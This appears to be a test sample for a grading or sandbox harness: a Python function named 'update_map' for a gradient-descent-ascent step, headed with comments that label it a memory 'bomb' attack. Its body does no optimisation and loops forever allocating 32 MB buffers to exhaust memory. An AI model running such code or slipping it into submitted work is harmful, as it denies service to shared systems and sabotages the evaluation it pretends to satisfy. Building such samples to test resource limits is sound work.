# attack: takes memory until there is none, and writes to every page of it
# kind: bomb
# grade: 1.b
# outcome: memory, timeout
# module: saddle


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    hoarded = []
    while True:
        hoarded.append(bytearray(b"x") * (32 << 20))
